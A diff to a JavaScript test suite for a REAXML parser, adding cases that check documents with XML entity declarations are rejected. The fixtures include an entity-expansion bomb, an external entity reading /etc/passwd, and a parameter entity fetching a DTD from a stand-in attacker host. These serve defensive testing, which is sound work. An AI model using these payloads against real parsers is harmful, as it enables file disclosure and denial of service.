@@ -145,6 +145,7 @@ describe('what is not REAXML is rejected whole', () => {
     ['a bomb', '[<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]'],
     ['an external entity', '[<!ENTITY x SYSTEM "file:///etc/passwd">]'],
     ['a parameter entity', '[<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]'],
+    ['one in small letters', '[<!entity b "c">]'],
     ['one in a comment', "[<!-- ' --><!ENTITY a 'x'>]"],
   ])('%s', async (_, subset) => {
     const xml = `<?xml version="1.0"?><!DOCTYPE propertyList ${subset}>${list(headline('&x;&b;'))}`;
@@ -168,7 +169,8 @@ describe('what is not REAXML is rejected whole', () => {
   });
 
   it('a document type without entities is not', async () => {
-    const doctype = '<!DOCTYPE propertyList PUBLIC "-//>//" "http://x.example/[x].dtd" [<!ELEMENT a (b)><!-- ]> -->]>';
+    const doctype =
+      '<!DOCTYPE propertyList PUBLIC "-//>//" "http://x.example/[entity].dtd" [<!ELEMENT a (b)><!-- ]> -->]>';
     expect(await problemOf(`${doctype}${list(good)}`)).toBeUndefined();
     expect(await problemOf(`${doctype}<!DOCTYPE b "c" ">">${list(good)}`)).toBeUndefined();
     expect(await problemOf(`<!DOCTYPE propertyList [${' '.repeat(70_000)}`)).toContain('document type that is far too');
